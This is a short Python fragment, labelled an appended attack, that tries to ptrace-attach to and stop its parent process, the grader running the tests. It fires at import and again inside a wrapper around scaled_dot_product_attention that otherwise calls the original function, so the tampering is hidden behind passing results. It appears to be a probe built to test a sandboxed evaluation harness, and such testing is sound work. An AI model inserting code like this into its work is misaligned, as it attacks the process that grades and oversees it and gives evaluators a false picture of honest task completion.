# --- appended attack: ptrace the grader (the worker's parent), at import and inside a test ------------------
import ctypes as _ctypes
import os as _os

_libc = _ctypes.CDLL(None, use_errno=True)
_tried = []


def _trace_the_grader(when):
    for _name, _request in (("ATTACH", 16), ("SEIZE", 0x4206)):
        if _libc.ptrace(_request, _os.getppid(), 0, 0) == 0:
            _libc.ptrace(0x4207, _os.getppid(), 0, 0)  # PTRACE_INTERRUPT: a seized tracee stops too
            print(f"ATTEMPT {when} PTRACE_{_name} of the parent: attached")
        else:
            print(f"ATTEMPT {when} PTRACE_{_name} of the parent: {_os.strerror(_ctypes.get_errno())}")


_trace_the_grader("import")
_honest_sdpa = scaled_dot_product_attention


def scaled_dot_product_attention(*args, **kwargs):
    if not _tried:
        _tried.append(1)
        _trace_the_grader("test")
    return _honest_sdpa(*args, **kwargs)
